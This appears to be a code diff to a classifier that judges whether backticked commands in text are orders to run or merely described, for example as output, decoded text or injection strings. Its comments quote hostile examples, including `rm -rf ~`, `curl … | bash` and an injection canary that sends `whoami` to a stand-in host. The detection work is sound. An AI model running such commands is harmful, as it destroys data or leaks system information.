@@ -1,4 +1,5 @@
 import { oncePerText } from '../rules/once-per-text.js';
+import { normaliseUnicode } from '../normalise/normalise-unicode.js';
 /**
  * How a sentence holds an inline code span: as a command it gives (`Run \`rm -rf ~\` now`), as a
  * name in a list, or as the subject of a statement about the command (`` `setenforce 0` turns
@@ -90,8 +91,13 @@ function subjectOfStatement(sentence: string, text: string, spanEnd: number): bo
   const arrow = /^[^\n.!?:;\u2192]{0,60}?(?:\u2192|->|=>|\u21d2)/.exec(tail);
   if (arrow && arrow[0].trim().split(/\s+/).length <= 8)
     return !/^\s{0,4}(?:installs?|sets?\s{1,4}up|runs?|bootstraps?|setup|executes?)\b/i.test(tail.slice(arrow[0].length));
-  return STATEMENT_VERB.test(tail);
+  // "Strings like `rm -rf /` inside them are patterns to match": where the spans are found, then the statement.
+  return STATEMENT_VERB.test(tail.replace(WHERE_FOUND, ''));
 }
+
+/** A short phrase that says where the spans of a statement's subject are found ("inside them", "in old scripts"). */
+const WHERE_FOUND =
+  /^\s{0,4}(?:in|inside|within|from|under)\s{1,4}(?:(?:the|these|those|such|old|our|your)\s{1,4})?[\w./-]{1,40}\s{1,4}(?=\S)/i;
 
 /**
  * Verbs in the third person that say what something does ("disables AV", "clears event logs"), or what attackers do
@@ -189,6 +195,9 @@ function inCatalogue(sentence: string, text: string, spanEnd: number): boolean {
   return (whole.match(/`/g)?.length ?? 0) >= 6 && items.every((item) => item.trim().split(/\s+/).length <= 6);
 }
 
+/** The opening of an injected command string: a separator with nothing before it (`; id`, `&& curl …`, `| sh`). */
+const INJECTED_STRING = /^\s{0,2}(?:;|&&|\|\||\|(?!\|))\s{0,2}[a-z$]/i;
+
 /** Reads the span `[spanStart, spanEnd)` (its contents, backticks excluded) in its sentence. */
 export function readSpan(text: string, spanStart: number, spanEnd: number): SpanReading {
   const sentence = sentenceBefore(text, Math.max(0, spanStart - 1));
@@ -197,6 +206,9 @@ export function readSpan(text: string, spanStart: number, spanEnd: number): Span
   const listAt = spanListStart(sentence);
   const listFrom = Math.max(0, spanStart - 1) - sentence.length + listAt;
   if (!toldToRun && nameWithSubstitution(text.slice(spanStart, spanEnd))) return { toldToRun, described: true, listFrom };
+  // "Injection proofs use a canary: `; nslookup $(whoami).oast.example`": a span that opens with a command separator is
+  // an injection string typed into someone's input (a shell refuses it as a command line), whatever the verb before it.
+  if (INJECTED_STRING.test(text.slice(spanStart, Math.min(spanEnd, spanStart + 8)))) return { toldToRun: false, described: true, listFrom };
   if (subjectOfStatement(sentence, text, spanEnd) || (!toldToRun && inCatalogue(sentence, text, spanEnd)))
     return { toldToRun, described: true, listFrom };
   if (toldToRun) return { toldToRun, described: false, listFrom };
@@ -209,8 +221,10 @@ export function readSpan(text: string, spanStart: number, spanEnd: number): Span
   // "Flag entries that fetch remote code, e.g. `curl … | bash`, …": examples of what an order to look for names.
   // "Anti-forensics indicators: empty `~/.bash_history`, …": a word or two after the colon still belong to the list.
   const colonWords = lead.endsWith(':') ? null : /:\s{1,4}(?:[\w-]{1,20}\s{1,4}){0,2}[\w-]{1,20}$/.exec(lead);
+  // "(The base64 above decodes to `curl … | sh`, …)": what an encoded text reads as, shown.
+  if (!toldToRun && DECODES_TO.test(lead)) return { toldToRun, described: true, listFrom };
   const listed = lead.endsWith(':')
-    ? AUDIT_LEAD.test(lead.slice(0, -1))
+    ? AUDIT_LEAD.test(lead.slice(0, -1)) || OUTPUT_LEAD.test(lead)
     : (colonWords !== null && AUDIT_LEAD.test(lead.slice(0, colonWords.index))) ||
       AUDIT_VERB.test(clauseOf(lead) + ' ') ||
       (EXAMPLES_OF.test(lead) &&
@@ -275,5 +289,53 @@ const AUDIT_CLAUSE =
   /[\u2014\u2013:;]\s{0,4}(?:flag|look\s{1,4}for|report|detect|check\s{1,4}for|search\s{1,4}for|watch\s{1,4}for|note|spot|find)\b[^\u2014\u2013:;]{0,200}$/i;
 
 /** Words before a colon that name what the spans after it are: things to notice, flags, indicators, patterns. */
+/**
+ * A lead that is only a label of output ("Output of `peel.py`: `IEX (New-Object Net.WebClient)`", "Decoded: `curl … | sh`"):
+ * what a program printed, shown (also
+ * Belarusian/Russian/Ukrainian, Spanish, Portuguese, German, French, Polish, Czech, Turkish, Japanese, Chinese, Korean).
+ */
+const OUTPUT_WORDS = [
+  'output',
+  'result',
+  'results',
+  'decoded',
+  'prints',
+  'printed',
+  'returns',
+  'yields',
+  'вынік',
+  'результат',
+  'вывод',
+  'вивід',
+  'resultado',
+  'salida',
+  'saída',
+  'ergebnis',
+  'ausgabe',
+  'sortie',
+  'résultat',
+  'wynik',
+  'výsledek',
+  'výstup',
+  'çıktı',
+  'sonuç',
+  '出力',
+  '结果',
+  '输出',
+  '결과',
+  '출력',
+];
+// The rules read text with look-alike letters folded (Cyrillic `В` as `B`) and marks dropped: so are these words.
+const fold = (words: readonly string[]) =>
+  [...new Set(words.flatMap((w) => [w, w[0]!.toUpperCase() + w.slice(1)]).map((w) => normaliseUnicode(w)?.text ?? w))].join('|');
+const OUTPUT_LEAD = new RegExp(
+  String.raw`^[\s*_>(-]{0,8}(?:(?:the|its|their|expected|sample|example)\s{1,4})?(?:${fold(OUTPUT_WORDS)})[*_]{0,2}(?:\s{1,4}(?:${fold(['of', 'from', 'від', 'ад', 'из', 'з', 'de', 'von', 'z'])})\s{1,4})?(?:\s{0,4}\x60[^\x60\n]{1,80}\x60)?[*_]{0,2}\s{0,2}:$`,
+  'i',
+);
+
+/** The verb of a sentence that gives what something decodes to, the span after it being the decoded text. */
+const DECODES_TO =
+  /\b(?:decodes|decoded|deobfuscates|deobfuscated|unpacks|unpacked|expands|translates|reads)\s{1,4}(?:back\s{1,4})?(?:to|into|as)\s{0,4}$/i;
+
 const AUDIT_LEAD =
   /(?:^|[\s*_>(-])(?:note|notice|flag|look\s{1,4}for|watch\s{1,4}for|check\s{1,4}for|search\s{1,4}for|spot|recogni[sz]e|identify|red\s{1,4}flags?|indicators?|signs?|patterns?|iocs?|signatures?|tell-?tales?|sources?|sinks?)\b[^:\n]{0,40}$/i;
